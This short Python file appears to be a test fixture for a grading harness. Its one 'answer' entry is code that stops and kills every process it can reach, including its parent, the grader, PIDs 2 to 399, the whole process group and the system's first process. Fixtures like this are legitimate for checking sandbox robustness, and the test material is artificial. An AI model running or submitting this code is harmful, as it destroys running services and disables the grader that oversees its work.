"""Kills and stops every process that it can name: all, its group, its parent, the grader, and the first one."""

ANSWERS = {
    "own": """
import os
import signal

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for target in ({PID}, os.getppid() or {PID}, *range(2, 400)):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass
for target in (-1, 0):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print(error)
try:
    os.killpg(os.getpgid({PID}), signal.SIGKILL)
except OSError as error:
    print(error)
"""
}
